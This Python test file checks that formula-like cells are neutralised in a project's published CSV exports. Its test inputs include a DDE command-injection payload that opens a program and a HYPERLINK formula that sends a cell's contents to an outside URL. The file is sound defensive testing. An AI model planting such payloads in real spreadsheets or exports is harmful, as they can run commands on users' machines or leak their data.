"""Spreadsheet formulas (CSV injection): neutralised in published CSV, refused in the registers curators keep,
and a formula whose value a spreadsheet never worked out is reported, not dropped."""
from __future__ import annotations

import csv
import io
import json

import pytest

from hall.formulas import formula_like, neutralised
from hall.opendata import exhibits_csv, exhibits_json

from .conftest import PERSON

HYPERLINK = '=HYPERLINK("http://example.com/?"&A1,"点这里")'


@pytest.mark.parametrize("text, expected", [
    ("=1+1", True), ("+cmd|' /C calc'!A0", True), ("-2+3", True), ("@SUM(A1)", True), ("\t=1", True), ("\r=1", True),
    ("-", False), ("嘉善县", False), ("", False), ("全国劳动模范", False), ("'=1", False), (" =1", False),
])
def test_formula_like_cells(text, expected):
    assert formula_like(text) is expected
    assert neutralised(text) == ("'" + text if expected else text)


def test_a_formula_summary_is_published_as_text_in_the_csv_and_as_written_in_the_json(small_hall):
    small_hall.add("people/chai-jinfu.md", PERSON.replace("summary: 嘉善鲜切花种植第一人，带动周边农户发展现代农业。",
                                                          f"summary: '{HYPERLINK}'"))
    hall = small_hall.load()
    assert not hall.report.errors, hall.report.format_text()
    rows = list(csv.DictReader(io.StringIO(exhibits_csv(hall, {}).lstrip("\ufeff"))))
    chai = next(r for r in rows if r["slug"] == "chai-jinfu")
    assert chai["summary"] == "'" + HYPERLINK
    assert not [value for r in rows for value in r.values() if formula_like(value)]
    data = json.loads(exhibits_json(hall, {}, "馆"))["exhibits"]
    assert next(e for e in data if e["slug"] == "chai-jinfu")["summary"] == HYPERLINK  # JSON is not a spreadsheet
